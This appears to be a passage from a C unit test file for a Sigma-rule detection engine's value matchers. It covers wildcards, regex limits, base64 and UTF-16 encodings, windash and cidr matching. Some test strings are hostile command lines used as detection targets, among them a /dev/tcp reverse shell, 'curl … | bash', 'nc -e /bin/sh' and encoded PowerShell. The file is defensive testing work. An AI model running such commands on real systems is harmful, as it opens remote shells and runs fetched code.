/*
 * tests/unit/test_sigma_match.c - detector_sigma's compiled value matchers
 * (plugins/detector_sigma/match.c): every modifier of the Sigma
 * specification (rules format 2.x), wildcards and their escapes, the case
 * rules, regex limits, base64offset against the specification's own example,
 * cidr edge cases and the literals handed to the rule index.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "match.h"

#include <rampart/plugin.h>

#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "alloc_count.h"

/* The mask of modifiers "contains|all", through the loader's key parser
 * (mod.h) as a rule's key goes; -1 with err filled when it refuses them. */
static int parse_mods(const char *mods, uint32_t *bits, char *err, size_t errlen)
{
    char key[256];
    snprintf(key, sizeof key, "Field%s%s", *mods ? "|" : "", mods);
    struct ds_field_spec spec;
    const char *why = NULL;
    if (ds_mods_parse(key, strlen(key), &spec, NULL, NULL, &why) != DS_MODS_OK) {
        snprintf(err, errlen, "%s: %s", key, why ? why : "refused");
        return -1;
    }
    *bits = spec.mask;
    return 0;
}

/* Compiles `Field|<mods>: <values...>` (strings) or fails the test. */
static struct ds_field *field_v(const char *mods, const char *const *vals, size_t n)
{
    uint32_t bits;
    char err[256] = "";
    if (parse_mods(mods, &bits, err, sizeof err) != 0)
        fail_msg("modifiers '%s': %s", mods, err);
    struct ds_mvalue v[16];
    assert_true(n <= 16);
    for (size_t i = 0; i < n; i++)
        v[i] = (struct ds_mvalue){DS_MV_STRING, vals[i], strlen(vals[i])};
    struct ds_field *f = NULL;
    int rc = ds_field_compile(bits, v, n, NULL, &f, err, sizeof err);
    if (rc != 0)
        fail_msg("'%s' with '%s': %s (%d)", vals[0], mods, err, rc);
    return f;
}

static struct ds_field *field1(const char *mods, const char *value)
{
    return field_v(mods, &value, 1);
}

static bool m(struct ds_field *f, const char *text)
{
    return ds_field_match(f, text, text ? strlen(text) : 0);
}

/* Whether one value under mods matches text, as one call. */
static bool hit(const char *mods, const char *value, const char *text)
{
    struct ds_field *f = field1(mods, value);
    bool r = m(f, text);
    ds_field_destroy(f);
    return r;
}

/* The compile error (negative code) a value gets, with err filled. */
static int compile_err(const char *mods, enum ds_mvtype type, const char *value, char *err,
                       size_t errlen)
{
    uint32_t bits;
    if (parse_mods(mods, &bits, err, errlen) != 0)
        return RP_ERR_PARSE;
    int rc;
    struct ds_mvalue v = {type, value, value ? strlen(value) : 0};
    struct ds_field *f = NULL;
    rc = ds_field_compile(bits, &v, 1, NULL, &f, err, errlen);
    ds_field_destroy(f);
    return rc;
}

static void test_exact_and_case(void **state)
{
    (void)state;
    assert_true(hit("", "cmd.exe", "cmd.exe"));
    assert_true(hit("", "cmd.exe", "CMD.EXE"));
    assert_true(hit("", "CMD.exe", "cmd.EXE"));
    assert_false(hit("", "cmd.exe", "cmd.exe "));
    assert_false(hit("", "cmd.exe", "xcmd.exe"));
    assert_false(hit("", "cmd.exe", ""));
    assert_false(hit("", "cmd.exe", NULL)); /* absent field */
    assert_true(hit("", "", ""));
    assert_false(hit("", "", "x"));
    /* cased: exact bytes. */
    assert_true(hit("cased", "Cmd.exe", "Cmd.exe"));
    assert_false(hit("cased", "Cmd.exe", "cmd.exe"));
    assert_false(hit("contains|cased", "Bash", "/bin/bash"));
    /* Only ASCII folds: É (C3 89) and é (C3 A9) stay different. */
    assert_true(hit("", "café", "CAFé"));
    assert_false(hit("", "café", "CAFÉ"));
    assert_false(hit("contains", "É", "é"));
    /* A value with a NUL byte compares it like any byte. */
    uint32_t bits = 0;
    struct ds_mvalue v = {DS_MV_STRING, "a\0b", 3};
    struct ds_field *f = NULL;
    assert_int_equal(ds_field_compile(bits, &v, 1, NULL, &f, NULL, 0), 0);
    assert_true(ds_field_match(f, "A\0B", 3));
    assert_false(ds_field_match(f, "a\0c", 3));
    ds_field_destroy(f);
}

static void test_contains_startswith_endswith(void **state)
{
    (void)state;
    assert_true(hit("contains", "bash -i", "/bin/BASH -i >& /dev/tcp/1.2.3.4/4444"));
    assert_false(hit("contains", "bash -i", "/bin/bash -c"));
    assert_true(hit("contains", "", "anything"));
    assert_true(hit("startswith", "/tmp/", "/TMP/x"));
    assert_false(hit("startswith", "/tmp/", "/var/tmp/x"));
    assert_false(hit("startswith", "/tmp/", "/tmp"));
    assert_true(hit("endswith", "/nc", "/usr/bin/nc"));
    assert_false(hit("endswith", "/nc", "/usr/bin/ncat"));
    assert_true(hit("endswith", "/nc", "/nc"));
    /* Wildcards inside as well. */
    assert_true(hit("contains", "curl*|*sh", "x; CURL http://e/x | bash; y"));
    assert_false(hit("contains", "curl*|*sh", "x; curl http://e/x > f"));
    assert_true(hit("startswith", "/tmp/?", "/tmp/a"));
    assert_false(hit("startswith", "/tmp/?", "/tmp/"));
    assert_true(hit("endswith", "*.s?", "a.sh"));
    assert_false(hit("endswith", "*.s?", "a.s"));
}

static void test_wildcards(void **state)
{
    (void)state;
    assert_true(hit("", "a*c", "ac"));
    assert_true(hit("", "a*c", "abbbc"));
    assert_false(hit("", "a*c", "abbbcd"));
    assert_true(hit("", "*", ""));
    assert_true(hit("", "*", "anything"));
    assert_true(hit("", "**", "x"));
    assert_true(hit("", "a?c", "abc"));
    assert_false(hit("", "a?c", "ac"));
    assert_false(hit("", "a?c", "abbc"));
    /* ? is one UTF-8 character, not one byte. */
    assert_true(hit("", "a?c", "aéc"));
    assert_true(hit("", "a?c", "a—c")); /* em dash: three bytes */
    assert_false(hit("", "a??c", "aéc"));
    assert_false(hit("", "*??", "—"));
    assert_true(hit("", "*??", "ab"));
    /* A byte that starts no valid sequence is a character of its own. */
    assert_true(hit("", "a?c",
                    "a\xff"
                    "c"));
    assert_true(hit("", "a?c",
                    "a\xc3"
                    "c"));
    /* Backtracking past a partial match. */
    assert_true(hit("", "*aab", "aaab"));
    assert_true(hit("", "*ab*abc", "abababxabc"));
    assert_false(hit("", "*ab*abc", "abababxab"));
    assert_true(hit("", "a*b?d*e", "aXbYbZdQe"));
    assert_true(hit("contains", "x*y", "00x11y22"));
    assert_false(hit("contains", "x*y", "00y11x22"));
    /* A long text against many stars stays linear per star. */
    char *big = malloc(60001);
    assert_non_null(big);
    memset(big, 'a', 60000);
    big[60000] = '\0';
    assert_false(hit("", "*a*a*a*a*a*a*a*a*b", big));
    free(big);
}

static void test_escapes(void **state)
{
    (void)state;
    /* \* and \? are the literal characters. */
    assert_true(hit("", "a\\*b", "a*b"));
    assert_false(hit("", "a\\*b", "axb"));
    assert_true(hit("", "a\\?b", "a?b"));
    assert_false(hit("", "a\\?b", "axb"));
    /* \\ is one backslash; a wildcard after it stays a wildcard. */
    assert_true(hit("", "a\\\\b", "a\\b"));
    assert_false(hit("", "a\\\\b", "a\\\\b"));
    assert_true(hit("", "c:\\\\*", "C:\\Windows"));
    assert_false(hit("", "c:\\\\*", "C:Windows"));
    /* \\\* is a backslash then a literal star. */
    assert_true(hit("", "a\\\\\\*", "a\\*"));
    assert_false(hit("", "a\\\\\\*", "a\\x"));
    /* A lone backslash (before anything else) stays literal. */
    assert_true(hit("", "C:\\Windows\\System32", "c:\\windows\\system32"));
    assert_true(hit("endswith", "\\cmd.exe", "C:\\x\\cmd.exe"));
    assert_false(hit("endswith", "\\cmd.exe", "C:\\x/cmd.exe"));
    assert_true(hit("", "abc\\", "abc\\"));
    assert_false(hit("", "abc\\", "abc"));
    /* And the escaped characters reach the index as literals. */
    struct ds_field *f = field1("contains", "A\\*B");
    struct ds_literal lit;
    assert_int_equal(ds_matcher_literals(ds_field_matcher(f, 0), &lit, 1), 1);
    assert_int_equal(lit.kind, DS_LIT_CONTAINS);
    assert_int_equal(lit.len, 3);
    assert_memory_equal(lit.bytes, "a*b", 3);
    ds_field_destroy(f);
}

static void test_value_lists_and_all(void **state)
{
    (void)state;
    const char *vals[] = {"wget", "curl"};
    struct ds_field *any = field_v("contains", vals, 2);
    assert_true(m(any, "/usr/bin/curl -o x"));
    assert_true(m(any, "wget x"));
    assert_false(m(any, "fetch x"));
    ds_field_destroy(any);
    struct ds_field *all = field_v("contains|all", vals, 2);
    assert_false(m(all, "/usr/bin/curl -o x"));
    assert_true(m(all, "wget x || curl x"));
    assert_false(m(all, NULL));
    assert_int_equal(ds_field_count(all), 2);
    assert_true(ds_field_mods(all) & DS_MODBIT(DS_MOD_ALL));
    ds_field_destroy(all);

    /* As many values as the loader lets one item have: a public rule lists
     * 1,090 package names in one item; one more is refused. */
    struct ds_mvalue *many = calloc(DS_MATCH_MAX_VALUES + 1, sizeof(*many));
    char(*names)[16] = calloc(DS_MATCH_MAX_VALUES + 1, sizeof(*names));
    assert_non_null(many);
    assert_non_null(names);
    for (size_t i = 0; i <= DS_MATCH_MAX_VALUES; i++) {
        snprintf(names[i], sizeof names[i], "pkg-%zu", i);
        many[i] = (struct ds_mvalue){DS_MV_STRING, names[i], strlen(names[i])};
    }
    struct ds_field *big = NULL;
    char err[200];
    assert_int_equal(
        ds_field_compile(DS_MODBIT(DS_MOD_CONTAINS), many, 1090, NULL, &big, err, sizeof err), 0);
    assert_true(m(big, "npm install pkg-1089"));
    ds_field_destroy(big);
    assert_int_equal(ds_field_compile(DS_MODBIT(DS_MOD_CONTAINS), many, DS_MATCH_MAX_VALUES, NULL,
                                      &big, err, sizeof err),
                     0);
    assert_true(m(big, "npm install pkg-16383"));
    assert_false(m(big, "npm install left-pad"));
    ds_field_destroy(big);
    assert_int_equal(ds_field_compile(DS_MODBIT(DS_MOD_CONTAINS), many, DS_MATCH_MAX_VALUES + 1,
                                      NULL, &big, err, sizeof err),
                     RP_ERR_RANGE);
    assert_non_null(strstr(err, "16385 values, more than 16384"));
    free(many);
    free(names);
}

static void test_types_null_exists(void **state)
{
    (void)state;
    struct ds_mvalue num = {DS_MV_NUMBER, "4688", 4};
    struct ds_mvalue yes = {DS_MV_BOOL, "true", 4};
    struct ds_mvalue no = {DS_MV_BOOL, "false", 5};
    struct ds_mvalue null = {DS_MV_NULL, NULL, 0};
    struct ds_field *f;
    assert_int_equal(ds_field_compile(0, &num, 1, NULL, &f, NULL, 0), 0);
    assert_true(ds_field_match(f, "4688", 4));
    assert_false(ds_field_match(f, "46880", 5));
    ds_field_destroy(f);
    assert_int_equal(ds_field_compile(0, &yes, 1, NULL, &f, NULL, 0), 0);
    assert_true(ds_field_match(f, "True", 4));
    ds_field_destroy(f);
    /* null: the field is absent or empty. */
    assert_int_equal(ds_field_compile(0, &null, 1, NULL, &f, NULL, 0), 0);
    assert_true(ds_field_match(f, NULL, 0));
    assert_true(ds_field_match(f, "", 0));
    assert_false(ds_field_match(f, "x", 1));
    ds_field_destroy(f);
    /* exists: presence only; an empty value is present. */
    assert_int_equal(ds_field_compile(DS_MODBIT(DS_MOD_EXISTS), &yes, 1, NULL, &f, NULL, 0), 0);
    assert_true(ds_field_match(f, "", 0));
    assert_true(ds_field_match(f, "x", 1));
    assert_false(ds_field_match(f, NULL, 0));
    ds_field_destroy(f);
    assert_int_equal(ds_field_compile(DS_MODBIT(DS_MOD_EXISTS), &no, 1, NULL, &f, NULL, 0), 0);
    assert_false(ds_field_match(f, "", 0));
    assert_true(ds_field_match(f, NULL, 0));
    ds_field_destroy(f);
    char err[200];
    assert_int_equal(compile_err("exists", DS_MV_STRING, "yes", err, sizeof err), RP_ERR_PARSE);
    assert_non_null(strstr(err, "exists"));
    assert_int_equal(compile_err("contains", DS_MV_NULL, NULL, err, sizeof err), RP_ERR_PARSE);
    /* An empty list is refused. */
    assert_int_equal(ds_field_compile(0, &num, 0, NULL, &f, err, sizeof err), RP_ERR_PARSE);
    assert_null(f);
}

static void test_regex(void **state)
{
    (void)state;
    assert_true(hit("re", "^/usr/bin/(ba|z)sh$", "/usr/bin/zsh"));
    assert_false(hit("re", "^/usr/bin/(ba|z)sh$", "/usr/bin/zsh2"));
    /* Unanchored search, case-sensitive unless i. */
    assert_true(hit("re", "nc\\s+-e", "x; nc  -e /bin/sh"));
    assert_false(hit("re", "nc\\s+-e", "x; NC  -e /bin/sh"));
    assert_true(hit("re|i", "nc\\s+-e", "x; NC  -e /bin/sh"));
    /* cased changes nothing for a regex. */
    assert_false(hit("re|cased", "abc", "ABC"));
    /* m: ^ and $ at line breaks; s: . matches a line break. */
    assert_false(hit("re", "^bar", "foo\nbar"));
    assert_true(hit("re|m", "^bar", "foo\nbar"));
    assert_false(hit("re", "foo.bar", "foo\nbar"));
    assert_true(hit("re|s", "foo.bar", "foo\nbar"));
    assert_true(hit("re|i|m|s", "^FOO.BAR$", "x\nfoo\nbar"));
    /* Values that are not UTF-8 are searched, not refused; an invalid byte
     * is matched by nothing (PCRE2_MATCH_INVALID_UTF), not even a dot. */
    assert_true(hit("re", "b\\.d$", "\xff b.d"));
    assert_false(hit("re", "b.d",
                     "ab\xff"
                     "d"));
    char err[256];
    assert_int_equal(compile_err("re", DS_MV_STRING, "a(b", err, sizeof err), RP_ERR_PARSE);
    assert_non_null(strstr(err, "a(b"));
    assert_non_null(strstr(err, "offset"));
    char *long_re = malloc(DS_MATCH_MAX_REGEX + 2);
    assert_non_null(long_re);
    memset(long_re, 'a', DS_MATCH_MAX_REGEX + 1);
    long_re[DS_MATCH_MAX_REGEX + 1] = '\0';
    assert_int_equal(compile_err("re", DS_MV_STRING, long_re, err, sizeof err), RP_ERR_RANGE);
    long_re[DS_MATCH_MAX_REGEX] = '\0';
    assert_int_equal(compile_err("re", DS_MV_STRING, long_re, err, sizeof err), 0);
    free(long_re);
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* A pattern with exponential backtracking, on an input an attacker chose,
 * returns quickly as "no match" and counts the limit hit, with and without
 * the JIT. Unbounded, (a+)+$ on 40 a's and a '!' takes about 2^40 steps. */
static void test_regex_limits(void **state)
{
    (void)state;
    char text[64];
    memset(text, 'a', 40);
    text[40] = '!';
    text[41] = '\0';
    for (int jit = 0; jit < 2; jit++) {
        struct ds_match_opts o = {.re_no_jit = !jit};
        struct ds_mvalue v = {DS_MV_STRING, "^(a+)+$", 7};
        struct ds_field *f = NULL;
        assert_int_equal(ds_field_compile(DS_MODBIT(DS_MOD_RE), &v, 1, &o, &f, NULL, 0), 0);
        double t0 = now_s();
        for (int i = 0; i < 5; i++)
            assert_false(ds_field_match(f, text, strlen(text)));
        double took = now_s() - t0;
        print_message("catastrophic regex, jit=%d: 5 matches in %.3f s, %llu limit hits\n", jit,
                      took, (unsigned long long)ds_field_errors(f));
        assert_true(took < 5.0);
        assert_int_equal(ds_field_errors(f), 5);
        /* The same matcher still answers ordinary values afterwards. */
        assert_true(ds_field_match(f, "aaaa", 4));
        /* The limit is the matcher's own, far below PCRE2's default (ten
         * million): 18 a's need about a million steps, which PCRE2 alone
         * would finish as a plain "no match"; 12 a's (16 thousand steps)
         * stay under it. */
        uint64_t before = ds_field_errors(f);
        assert_false(ds_field_match(f, text + 22, strlen(text + 22)));
        assert_int_equal(ds_field_errors(f), before + 1);
        assert_false(ds_field_match(f, text + 28, strlen(text + 28)));
        assert_int_equal(ds_field_errors(f), before + 1);
        ds_field_destroy(f);
        /* And the option sets it. */
        o.re_match_limit = 1000;
        assert_int_equal(ds_field_compile(DS_MODBIT(DS_MOD_RE), &v, 1, &o, &f, NULL, 0), 0);
        assert_false(ds_field_match(f, text + 28, strlen(text + 28)));
        assert_int_equal(ds_field_errors(f), 1);
        ds_field_destroy(f);
    }
}

/* base64 and base64offset, with the specification's example: /bin/bash
 * under base64offset|contains is L2Jpbi9iYXNo, 9iaW4vYmFza and vYmluL2Jhc2. */
static void test_base64(void **state)
{
    (void)state;
    /* base64: the value's plain encoding, padding included. */
    assert_true(hit("base64", "/bin/bash", "L2Jpbi9iYXNo"));
    assert_true(hit("base64|contains", "/bin/bash", "echo L2Jpbi9iYXNo | base64 -d"));
    assert_true(hit("base64", "sh", "c2g="));
    assert_false(hit("base64", "sh", "c2g"));

    struct ds_field *f = field1("base64offset|contains", "/bin/bash");
    struct ds_literal lit[4];
    assert_int_equal(ds_matcher_literals(ds_field_matcher(f, 0), lit, 4), 3);
    const char *want[3] = {"l2jpbi9iyxno", "9iaw4vymfza", "vymlul2jhc2"}; /* folded */
    for (int i = 0; i < 3; i++) {
        assert_int_equal(lit[i].kind, DS_LIT_CONTAINS);
        assert_int_equal(lit[i].len, strlen(want[i]));
        assert_memory_equal(lit[i].bytes, want[i], lit[i].len);
    }
    /* The value at each offset of a longer encoded text:
     * base64("/bin/bash") = L2Jpbi9iYXNo (offset 0),
     * base64("x/bin/bash -i") = eC9iaW4vYmFzaCAtaQ== (offset 1),
     * base64("echo;/bin/bash -i") = ZWNobzsvYmluL2Jhc2ggLWk= (offset 2). */
    assert_true(m(f, "L2Jpbi9iYXNo"));
    assert_true(m(f, "eC9iaW4vYmFzaCAtaQ=="));
    assert_true(m(f, "powershell -e ZWNobzsvYmluL2Jhc2ggLWk="));
    /* base64("/bin/dash") = L2Jpbi9kYXNo. */
    assert_false(m(f, "L2Jpbi9kYXNo"));
    ds_field_destroy(f);
    /* cased keeps the alphabet's case. */
    f = field1("base64offset|contains|cased", "/bin/bash");
    assert_int_equal(ds_matcher_literals(ds_field_matcher(f, 0), lit, 4), 3);
    assert_memory_equal(lit[0].bytes, "L2Jpbi9iYXNo", 12);
    assert_false(m(f, "l2jpbi9iyxno"));
    ds_field_destroy(f);
    /* base64offset implies contains. */
    assert_true(hit("base64offset", "/bin/bash", "xx eC9iaW4vYmFzaCAtaQ=="));
    /* One byte leaves nothing of its own at offset 1 (Y, -, h): that empty
     * alternative is dropped instead of matching everything. */
    f = field1("base64offset|contains", "a");
    assert_int_equal(ds_matcher_literals(ds_field_matcher(f, 0), lit, 4), 2);
    assert_false(m(f, "QUJD"));
    ds_field_destroy(f);
    /* Wildcards cannot be encoded; escaped ones can. */
    char err[200];
    assert_int_equal(
        compile_err("base64offset|contains", DS_MV_STRING, "/bin/*sh", err, sizeof err),
        RP_ERR_PARSE);
    assert_non_null(strstr(err, "wildcard"));
    assert_true(hit("base64", "a\\*", "YSo=")); /* base64("a*") */
}

/* utf16le/utf16be/utf16/wide, with base64 as PowerShell -EncodedCommand has it. */
static void test_utf16(void **state)
{
    (void)state;
    /* base64(utf16le("ping")) = cABpAG4AZwA=, utf16be: AHAAaQBuAGc=,
     * with the byte order mark FF FE: //5wAGkAbgBnAA== */
    assert_true(hit("utf16le|base64", "ping", "cABpAG4AZwA="));
    assert_true(hit("wide|base64", "ping", "cABpAG4AZwA="));
    assert_true(hit("utf16be|base64", "ping", "AHAAaQBuAGc="));
    assert_true(hit("utf16|base64", "ping", "//5wAGkAbgBnAA=="));
    struct ds_field *f = field1("wide|base64offset|contains", "ping");
    struct ds_literal lit[3];
    assert_int_equal(ds_matcher_literals(ds_field_matcher(f, 0), lit, 3), 3);
    assert_memory_equal(lit[0].bytes, "cabpag4azw", 10);
    assert_memory_equal(lit[1].bytes, "aaaqbuagca", 10);
    assert_memory_equal(lit[2].bytes, "wagkabgbna", 10);
    /* base64(utf16le("cmd /c ping 1.2.3.4")) and base64(utf16le("x ping")). */
    assert_true(m(f, "powershell -enc YwBtAGQAIAAvAGMAIABwAGkAbgBnACAAMQAuADIALgAzAC4ANAA="));
    assert_true(m(f, "eAAgAHAAaQBuAGcA"));
    assert_false(m(f, "cABvAG4AZwA=")); /* "pong" */
    ds_field_destroy(f);
    /* utf16le alone matches the raw bytes; a character past U+FFFF is a
     * surrogate pair. */
    struct ds_mvalue v = {DS_MV_STRING, "a\xf0\x9f\x98\x80", 5}; /* a U+1F600 */
    assert_int_equal(ds_field_compile(DS_MODBIT(DS_MOD_UTF16LE), &v, 1, NULL, &f, NULL, 0), 0);
    assert_true(ds_field_match(f, "a\0\x3d\xd8\x00\xde", 6));
    ds_field_destroy(f);
    char err[200];
    assert_int_equal(compile_err("utf16le|base64", DS_MV_STRING, "a\xff", err, sizeof err),
                     RP_ERR_PARSE);
    assert_non_null(strstr(err, "UTF-8"));
}

static void test_windash(void **state)
{
    (void)state;
    struct ds_field *f = field1("windash|contains", " -exec ");
    assert_true(m(f, "find . -exec sh"));
    assert_true(m(f, "find . /exec sh"));
    assert_true(m(f, "find . \xe2\x80\x93"
                     "exec sh")); /* en dash */
    assert_true(m(f, "find . \xe2\x80\x94"
                     "exec sh")); /* em dash */
    assert_true(m(f, "find . \xe2\x80\x95"
                     "exec sh")); /* horizontal bar */
    assert_false(m(f, "find . +exec sh"));
    assert_false(m(f, "find . exec sh"));
    assert_false(m(f, "find . \xe2\x80\x92"
                      "exec sh")); /* figure dash: not listed */
    ds_field_destroy(f);
    /* Every flag dash varies on its own; a dash inside a word does not. */
    f = field1("windash", "net user -add /y");
    assert_true(m(f, "NET USER /add -y"));
    assert_true(m(f, "net user \xe2\x80\x94"
                     "add \xe2\x80\x93y"));
    ds_field_destroy(f);
    assert_false(hit("windash", "foo-bar", "foo/bar"));
    assert_false(hit("windash", "a -", "a /")); /* not followed by a word */
    /* A rule written with an en dash varies it the same way. */
    assert_true(hit("windash", "ping \xe2\x80\x93n 1", "ping -n 1"));
    assert_true(hit("windash", "ping \xe2\x80\x93n 1", "PING /n 1"));
    assert_false(hit("windash", "ping \xe2\x80\x93n 1", "ping n 1"));
    /* Without windash a dash is just a dash. */
    assert_false(hit("contains", "-exec", "/exec"));
    /* The literals the index gets are split at the dash. */
    f = field1("windash|contains", "-encodedcommand");
    struct ds_literal lit;
    assert_int_equal(ds_matcher_literals(ds_field_matcher(f, 0), &lit, 1), 1);
    assert_int_equal(lit.kind, DS_LIT_CONTAINS);
    assert_int_equal(lit.len, strlen("encodedcommand"));
    ds_field_destroy(f);
}

/* Specification 2.1: neq, present and equal to none of the values. */
static void test_neq(void **state)
{
    (void)state;
    const char *vals[] = {"root", "daemon"};
    struct ds_field *f = field_v("neq", vals, 2);
    assert_true(m(f, "alice"));
    assert_false(m(f, "ROOT"));
    assert_false(m(f, "daemon"));
    assert_true(m(f, "root2"));
    assert_true(m(f, ""));
    assert_false(m(f, NULL));
    struct ds_literal lit;
    assert_int_equal(ds_matcher_literals(ds_field_matcher(f, 0), &lit, 1), 0);
    ds_field_destroy(f);
    assert_false(hit("neq|cased", "root", "root"));
    assert_true(hit("neq|cased", "root", "ROOT"));
    /* A number compares as a number. */
    struct ds_mvalue num = {DS_MV_NUMBER, "80", 2};
    assert_int_equal(ds_field_compile(DS_MODBIT(DS_MOD_NEQ), &num, 1, NULL, &f, NULL, 0), 0);
    assert_false(ds_field_match(f, "0080", 4));
    assert_true(ds_field_match(f, "443", 3));
    ds_field_destroy(f);
    /* With fieldref: the two fields differ. */
    f = field1("fieldref|neq", "user.name");
    const char *ref[1] = {"root"};
    size_t rlen[1] = {4};
    assert_false(ds_field_match_ref(f, "ROOT", 4, ref, rlen));
    assert_true(ds_field_match_ref(f, "alice", 5, ref, rlen));
    ds_field_destroy(f);
    char err[200];
    assert_int_equal(compile_err("neq|contains", DS_MV_STRING, "x", err, sizeof err), RP_ERR_PARSE);
    assert_non_null(strstr(err, "neq"));
}

static void test_cidr(void **state)
{
    (void)state;
    assert_true(hit("cidr", "10.0.0.0/8", "10.0.0.0"));
    assert_true(hit("cidr", "10.0.0.0/8", "10.255.255.255"));
    assert_false(hit("cidr", "10.0.0.0/8", "11.0.0.0"));
    assert_false(hit("cidr", "10.0.0.0/8", "9.255.255.255"));
    assert_true(hit("cidr", "192.168.1.7/32", "192.168.1.7"));
    assert_false(hit("cidr", "192.168.1.7/32", "192.168.1.6"));
    assert_true(hit("cidr", "192.168.1.7", "192.168.1.7")); /* no prefix: the host */
    assert_true(hit("cidr", "172.16.0.0/12", "172.31.255.255"));
    assert_false(hit("cidr", "172.16.0.0/12", "172.32.0.0"));
    /* Host bits in the network are ignored. */
    assert_true(hit("cidr", "10.1.2.3/8", "10.9.9.9"));
    /* /0 of one family covers that family only. */
    assert_true(hit("cidr", "0.0.0.0/0", "255.255.255.255"));
    assert_false(hit("cidr", "0.0.0.0/0", "2001:db8::1"));
    assert_true(hit("cidr", "::/0", "2001:db8::1"));
    /* IPv6, on a bit boundary inside a byte. */
    assert_true(hit("cidr", "fe80::/10", "fe80::1"));
    assert_true(hit("cidr", "fe80::/10", "FEBF:ffff::1"));
    assert_false(hit("cidr", "fe80::/10", "fec0::1"));
    assert_true(hit("cidr", "::1/128", "::1"));
    assert_false(hit("cidr", "::1/128", "::2"));
    assert_true(hit("cidr", "2001:db8::/32", "2001:0db8:0000::42"));
    /* An IPv4-mapped address matches the IPv4 range. */
    assert_true(hit("cidr", "10.0.0.0/8", "::ffff:10.1.2.3"));
    /* A value that is not an address matches nothing. */
    assert_false(hit("cidr", "10.0.0.0/8", "10.0.0.1 "));
    assert_false(hit("cidr", "10.0.0.0/8", "10.0.0"));
    assert_false(hit("cidr", "10.0.0.0/8", "host.example"));
    assert_false(hit("cidr", "10.0.0.0/8", ""));
    assert_false(hit("cidr", "10.0.0.0/8", NULL));
    char err[200];
    const char *bad[] = {
        "10.0.0.0/33", "10.0.0/8", "10.0.0.0/", "10.0.0.0/-1",  "10.0.0.0/+8", "10.0.0.0/8.0",
        "::/129",      "abc",      "",          "10.0.0.0/0008"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        int rc = compile_err("cidr", DS_MV_STRING, bad[i], err, sizeof err);
        if (rc != RP_ERR_PARSE)
            fail_msg("cidr '%s' compiled (%d)", bad[i], rc);
        assert_non_null(strstr(err, "cidr"));
    }
    /* A list of networks: any of them. */
    const char *nets[] = {"127.0.0.0/8", "::1/128"};
    struct ds_field *f = field_v("cidr", nets, 2);
    assert_true(m(f, "127.0.0.53"));
    assert_true(m(f, "::1"));
    assert_false(m(f, "8.8.8.8"));
    ds_field_destroy(f);
}

static void test_numeric(void **state)
{
    (void)state;
    assert_true(hit("gt", "1024", "1025"));
    assert_false(hit("gt", "1024", "1024"));
    assert_true(hit("gte", "1024", "1024"));
    assert_true(hit("lt", "1024", "80"));
    assert_false(hit("lt", "1024", "1024"));
    assert_true(hit("lte", "1024", "1024"));
    assert_true(hit("lt", "0", "-1"));
    assert_true(hit("gt", "1.5", "1.75"));
    assert_false(hit("gt", "1.5", "1.25"));
    /* Not a number: no match. */
    assert_false(hit("gt", "1", "two"));
    assert_false(hit("gt", "1", "5 "));
    assert_false(hit("gt", "1", ""));
    assert_false(hit("gt", "1", NULL));
    char err[200];
    assert_int_equal(compile_err("lt", DS_MV_STRING, "ten", err, sizeof err), RP_ERR_PARSE);
    assert_non_null(strstr(err, "not a number"));
}

static void test_fieldref(void **state)
{
    (void)state;
    struct ds_field *f = field1("fieldref", "process.parent.executable");
    assert_string_equal(ds_field_ref_name(f, 0), "process.parent.executable");
    const char *ref[1] = {"/usr/bin/BASH"};
    size_t rlen[1] = {strlen(ref[0])};
    assert_true(ds_field_match_ref(f, "/usr/bin/bash", 13, ref, rlen));
    assert_false(ds_field_match_ref(f, "/usr/bin/bash2", 14, ref, rlen));
    /* Without the other field's value the item cannot hold. */
    assert_false(ds_field_match(f, "/usr/bin/bash", 13));
    const char *none[1] = {NULL};
    size_t zero[1] = {0};
    assert_false(ds_field_match_ref(f, "/usr/bin/bash", 13, none, zero));
    ds_field_destroy(f);
    f = field1("fieldref|cased", "x");
    assert_false(ds_field_match_ref(f, "/usr/bin/bash", 13, ref, rlen));
    ds_field_destroy(f);
    f = field1("fieldref|endswith", "x");
    const char *tail[1] = {"BASH"};
    size_t tlen[1] = {4};
    assert_true(ds_field_match_ref(f, "/usr/bin/bash", 13, tail, tlen));
    ds_field_destroy(f);
    f = field1("fieldref|contains", "x");
    const char *mid[1] = {"BIN"};
    assert_true(ds_field_match_ref(f, "/usr/bin/bash", 13, mid, (size_t[]){3}));
    assert_false(ds_field_match_ref(f, "/usr/sbin", 9, tail, tlen));
    /* The linear search against the naive one: references with borders
     * (aab, abab), a NUL, one longer than the search's 4096-byte head. */
    static const char *const hay[] = {"aaab", "abaabab", "abaaba", "xxAbCxx", "a\0b", "", "aaa"};
    static const char *const needle[] = {"aab", "ABAB", "abab", "abc", "\0b", "", "aaaa"};
    static const size_t hlen[] = {4, 7, 6, 7, 3, 0, 3}, nlen[] = {3, 4, 4, 3, 2, 0, 4};
    for (size_t i = 0; i < sizeof(hay) / sizeof(hay[0]); i++) {
        bool want = false;
        for (size_t at = 0; at + nlen[i] <= hlen[i] && !want; at++) {
            size_t k = 0;
            while (k < nlen[i] &&
                   tolower((unsigned char)hay[i][at + k]) == tolower((unsigned char)needle[i][k]))
                k++;
            want = k == nlen[i];
        }
        if (ds_field_match_ref(f, hay[i], hlen[i], &needle[i], &nlen[i]) != want)
            fail_msg("fieldref|contains: '%s' in '%s' should be %d", needle[i], hay[i], want);
    }
    static char big[6000], ref5k[5000];
    memset(big, 'a', sizeof big);
    memset(ref5k, 'A', sizeof ref5k);
    ref5k[sizeof ref5k - 1] = 'b';
    const char *r5[1] = {ref5k};
    size_t r5len[1] = {sizeof ref5k};
    assert_false(ds_field_match_ref(f, big, sizeof big, r5, r5len));
    big[5999] = 'B';
    assert_true(ds_field_match_ref(f, big, sizeof big, r5, r5len));
    big[5000] = 'b'; /* the head matches at 1 and 1000; only the last holds */
    assert_true(ds_field_match_ref(f, big, sizeof big, r5, r5len));
    ds_field_destroy(f);
}

static void test_expand(void **state)
{
    (void)state;
    const char *dirs[] = {"/tmp", "/dev/shm"};
    struct ds_placeholder ph = {"tmpdirs", dirs, 2};
    struct ds_match_opts o = {.placeholders = &ph, .nplaceholders = 1};
    uint32_t bits;
    char err[200];
    assert_int_equal(parse_mods("expand|startswith", &bits, err, sizeof err), 0);
